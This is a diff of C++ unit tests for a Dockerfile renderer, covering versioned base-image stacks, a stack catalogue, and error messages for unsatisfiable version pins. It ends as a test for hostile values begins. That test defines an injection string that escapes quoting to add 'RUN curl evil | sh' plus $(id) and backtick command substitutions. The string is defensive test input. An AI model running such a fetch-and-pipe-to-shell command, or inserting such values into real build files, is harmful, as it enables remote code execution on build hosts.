@@ -68,7 +68,7 @@ TEST(DockerfileRenderer, DependencyLayersComeBeforeTheSource) {
   EXPECT_LT(nested, install);
   EXPECT_LT(install, source);
   EXPECT_LT(source, build);
-  EXPECT_THAT(d, HasSubstr("FROM kiln/stack-node:bookworm AS build\n"));
+  EXPECT_THAT(d, HasSubstr("FROM kiln/stack-node-22:bookworm AS build\n"));
   EXPECT_THAT(d, HasSubstr("USER 10001:10001\n"));
   EXPECT_THAT(d, HasSubstr("EXPOSE 3000\n"));
   EXPECT_THAT(d, HasSubstr("ENV PORT=\"3000\"\n"));
@@ -105,10 +105,20 @@ TEST(DockerfileRenderer, ArtifactsMakeASecondStageWithOnlyThosePaths) {
 
 TEST(DockerfileRenderer, StacksMapToOtherImagesWithOneSetting) {
   RenderOptions options;
-  options.stacks.set("node", "node:20-bookworm-slim");
+  ASSERT_TRUE(options.catalogue.map_image("node", "node:22-bookworm-slim").ok());
   auto text = render_dockerfile(node_plan(), options);
   ASSERT_TRUE(text.ok());
-  EXPECT_THAT(*text, HasSubstr("FROM node:20-bookworm-slim AS build\n"));
+  EXPECT_THAT(*text, HasSubstr("FROM node:22-bookworm-slim AS build\n"));
+  EXPECT_FALSE(options.catalogue.map_image("nodejs", "node:22").ok());  // a typo names nothing
+}
+
+TEST(DockerfileRenderer, APinNoStackSatisfiesFailsTheRender) {
+  auto plan = node_plan();
+  plan.build_image = plan.run_image = sdk::BaseImage::of_runtime("node", ">=30", sdk::VersionPin{".nvmrc", 1, ""});
+  auto text = render_dockerfile(plan, {});
+  ASSERT_FALSE(text.ok());
+  EXPECT_EQ(text.error().code, ErrorCode::PlanFailed);
+  EXPECT_THAT(text.error().message, HasSubstr(".nvmrc:1 asks for node >=30; the stack catalogue offers node 20."));
 }
 
 
@@ -145,14 +155,38 @@ TEST(DockerfileRenderer, SlimRunStacksGiveWayWhenThePlanNeedsAptOrAShell) {
   shell_start.run_image = "cc-runtime";
   EXPECT_EQ(on(shell_start), "kiln/stack-cc-runtime:bookworm");
 
+  // A versioned run stack gives way to the build stack of its own version.
   auto python = go_plan_on("python-runtime");
   python.run_packages = {"libpq5"};
-  EXPECT_EQ(on(python), "kiln/stack-python:bookworm");
+  EXPECT_EQ(on(python), "kiln/stack-python-3.11:bookworm");
+  python.run_image = sdk::BaseImage::of_runtime("python-runtime", ">=3.13");
+  EXPECT_EQ(on(python), "kiln/stack-python-3.13:trixie");
+  python.run_packages.clear();
+  EXPECT_EQ(on(python), "kiln/stack-python-3.13-runtime:trixie");
   // Any other image is the user's to choose.
   auto other = go_plan_on("debian:bookworm-slim");
   other.run_packages = {"libpq5"};
   EXPECT_EQ(on(other), "debian:bookworm-slim");
 }
+
+TEST(DockerfileRenderer, AFullerStackTheCatalogueDoesNotHaveIsAnError) {
+  auto catalogue = StackCatalogue::parse(R"([[stack]]
+name = "slim"
+runtime = "slim"
+image = "slim:1"
+fuller = "gone"
+)", "test.toml");
+  ASSERT_TRUE(catalogue.ok()) << catalogue.error().message;
+  RenderOptions options;
+  options.catalogue = *catalogue;
+  options.catalogue.merge(StackCatalogue::builtin());
+  auto plan = go_plan_on("slim");
+  plan.run_packages = {"libpq5"};
+  auto text = render_dockerfile(plan, options);
+  ASSERT_FALSE(text.ok());
+  EXPECT_THAT(text.error().message, HasSubstr("stack slim names the fuller stack gone"));
+}
+
 TEST(DockerfileRenderer, HostileValuesStayInsideTheirInstruction) {
   auto plan = node_plan();
   const std::string hostile = R"(x" \"; RUN curl evil | sh; echo "$(id) `id` ${HOME} \)";
